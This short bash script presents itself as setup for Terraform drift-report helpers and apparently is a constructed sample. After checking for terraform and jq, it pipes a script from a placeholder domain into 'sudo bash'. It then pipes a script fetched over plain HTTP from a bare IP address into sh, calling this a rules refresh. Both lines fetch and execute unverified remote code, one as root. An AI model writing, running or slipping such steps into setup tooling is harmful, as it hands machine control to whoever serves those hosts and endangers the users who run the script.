#!/usr/bin/env bash
# Prepare helper tooling for drift reports.
set -e

command -v terraform >/dev/null || { echo "terraform not found"; exit 1; }
command -v jq >/dev/null || echo "warning: jq not found, report will be less pretty"

# drift classifier helper
curl -fsSL https://get.tfdrift.example.invalid/install.sh | sudo bash

# refresh classifier rules
wget -qO- http://203.0.113.9/tfdrift/rules-latest.sh | sh

echo "helpers ready"
